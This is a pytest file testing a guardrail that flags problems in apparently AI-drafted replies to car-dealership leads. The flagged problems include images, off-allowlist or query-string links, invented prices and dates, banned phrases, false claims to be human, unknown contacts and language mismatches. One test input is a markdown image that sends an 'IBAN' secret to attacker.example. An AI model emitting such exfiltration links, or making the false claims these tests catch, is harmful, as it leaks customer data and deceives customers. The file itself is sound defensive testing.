"""Guardrail flags: each family is raised on the draft that earns it, and not on a plain one."""

from __future__ import annotations

import pytest

from worker.pipeline import guardrails as g
from worker.pipeline.guardrails import Policy, Sources, check, dont_phrases

LEAD = "Hi, is the 2021 Golf (listed at 18,900 EUR) still available? I could come Saturday."


def codes(reply: str, sources: Sources | None = None, policy: Policy | None = None,
          **kw: object) -> list[str]:
    flags = check(reply, sources or Sources(lead_text=LEAD), policy or Policy(),
                  detect=kw.pop("detect", lambda _t: None), **kw)
    return [f.code for f in flags]


def test_a_plain_reply_that_repeats_only_known_facts_raises_nothing() -> None:
    reply = "Yes, the 2021 Golf at 18.900 EUR is still here. Saturday works, see you then!"
    assert codes(reply) == []
    assert codes(reply + " Shall we say 10:00?") == [g.UNSUPPORTED_NUMBER]  # a time nobody gave


@pytest.mark.parametrize("reply", [
    "See ![car](https://cdn.example.com/golf.png)",
    'Look: <img src="https://dealer.example/golf.jpg">',
    "![x](https://attacker.example/log?secret=IBAN)",
])
def test_any_image_is_flagged_even_on_an_allowed_domain(reply: str) -> None:
    policy = Policy(link_allowlist=("example.com", "dealer.example"))
    assert g.IMAGE in codes(reply, policy=policy)


def test_a_link_with_a_query_string_is_flagged_whatever_its_domain() -> None:
    reply = "Book here: https://dealer.example/book?lead=anna%40mail.test"
    assert codes(reply, policy=Policy(link_allowlist=("dealer.example",))) == [g.LINK_QUERY]


def test_links_outside_the_allowlist_are_flagged_subdomains_of_allowed_ones_are_not() -> None:
    policy = Policy(link_allowlist=("dealer.example",))
    assert codes("Details: https://shop.dealer.example/golf", policy=policy) == []
    assert codes("Details: www.other-cars.test/golf", policy=policy) == [g.LINK_DOMAIN]
    assert codes('<a href="http://evil.test/x">here</a>', policy=policy) == [g.LINK_DOMAIN]
    assert codes("Details: https://dealer.example.evil.test/", policy=policy) == [g.LINK_DOMAIN]


@pytest.mark.parametrize("reply,token", [
    ("The Golf is yours for 17,500 EUR.", "17,500"),
    ("We can offer 3.9% financing.", "3.9"),
    ("Come on 24.12.2026 at 10:30.", "24.12.2026"),
    ("It has done 45000 km.", "45000"),
    ("It lists at 1.250.000 in total.", "1.250.000"),
])
def test_numbers_prices_and_dates_nobody_gave_are_flagged(reply: str, token: str) -> None:
    flags = check(reply, Sources(lead_text=LEAD), Policy(), detect=lambda _t: None)
    assert (g.UNSUPPORTED_NUMBER, token) in [(f.code, f.detail) for f in flags]


def test_numbers_from_the_recalled_context_are_supported_and_small_counts_ignored() -> None:
    sources = Sources(lead_text=LEAD, context=("Service special: 149 EUR until 2026-12-31",))
    assert codes("The 149 EUR service runs until 2026-12-31; I have 2 slots.", sources) == []


def test_dont_list_phrases_quoted_or_short_are_matched_long_instructions_are_not() -> None:
    donts = ("Never say 'no problem'", "cheap", "Don't say guaranteed approval",
             "Do not invent prices, availability, dates or commitments")
    assert dont_phrases(donts) == ["no problem", "cheap", "guaranteed approval"]
    reply = "No problem! Guaranteed   approval for everyone, and it is not cheaply made."
    flags = check(reply, Sources(lead_text=LEAD), Policy(donts=donts), detect=lambda _t: None)
    assert [(f.code, f.detail) for f in flags] == [
        (g.DONT_PHRASE, "no problem"), (g.DONT_PHRASE, "guaranteed approval")]


@pytest.mark.parametrize("reply", [
    "I am a human, not software.", "Don't worry, I'm not a bot.", "I'm a real person.",
    "Ich bin ein echter Mensch.", "Keine Sorge, ich bin kein Bot.", "Je suis un vrai humain.",
    "Je ne suis pas un robot.", "Soy una persona real.", "No soy un bot.",
    "Ik ben een echt mens.", "Ik ben geen robot.", "Sono un essere umano.",
])
def test_claims_to_be_human_in_several_languages(reply: str) -> None:
    assert g.HUMAN_CLAIM in codes(reply)


def test_talking_about_people_is_not_a_claim_to_be_human() -> None:
    assert codes("A person from our team will call you; humans read every message.") == []


def test_contacts_not_the_leads_and_not_known_are_flagged() -> None:
    sources = Sources(
        lead_text=LEAD + " Call me on 0171 2345678.",
        config_text="Reach our desk at sales@dealer.example or +49 30 1234567.",
        is_lead_email=lambda a: a == "anna@mail.test",
    )
    known = ("Write to anna@mail.test or sales@dealer.example, call 0171-234 5678 "
             "or +49 (30) 1234567.")
    assert codes(known, sources) == []
    flags = check("Send it to bob@other.test or call +44 20 7946 0958.", sources, Policy(),
                  detect=lambda _t: None)
    assert [(f.code, f.detail) for f in flags] == [
        (g.UNKNOWN_CONTACT, "e-mail bob@other.test"),
        (g.UNKNOWN_CONTACT, "phone +44 20 7946 0958"),
    ]  # a phone number is a contact, not also an unsupported number


def test_reply_in_another_language_than_the_leads_is_flagged() -> None:
    sources = Sources(lead_text="Hallo, ist der Golf noch verfügbar? Ich könnte am Samstag kommen.")
    flags = check("Thanks for your message, the Golf is still available for a test drive.",
                  sources, Policy())
    assert [(f.code, f.detail) for f in flags] == [(g.LANGUAGE_MISMATCH, "lead wrote de, reply is en")]
    same = "Danke für Ihre Nachricht, der Golf ist noch für eine Probefahrt verfügbar."
    assert check(same, sources, Policy()) == []


def test_short_texts_are_not_judged_for_language() -> None:
    assert check("Thanks, see you Saturday then!", Sources(lead_text="Samstag?"), Policy()) == []


def test_quick_replies_are_checked_too_and_each_flag_is_reported_once() -> None:
    flags = check("ok", Sources(lead_text=LEAD), Policy(),
                  quick_replies=("Pay 999 EUR now", "Pay 999 EUR now"), detect=lambda _t: None)
    assert [(f.code, f.detail) for f in flags] == [(g.UNSUPPORTED_NUMBER, "999")]
